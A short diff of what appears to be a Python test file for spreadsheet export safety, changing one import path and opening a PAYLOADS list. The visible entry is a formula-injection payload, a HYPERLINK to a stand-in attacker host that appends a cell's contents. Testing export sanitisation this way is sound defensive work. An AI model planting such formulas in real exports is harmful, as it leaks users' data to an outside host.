@@ -13,7 +13,7 @@ from core.cli import main
 from core.export import format_table, neutralise_formulas
 from core.ingest.sources.safety import check_url, escape_name
 from core.store import Store
-from pages._format import table_bytes
+from pages.ui.format import table_bytes
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
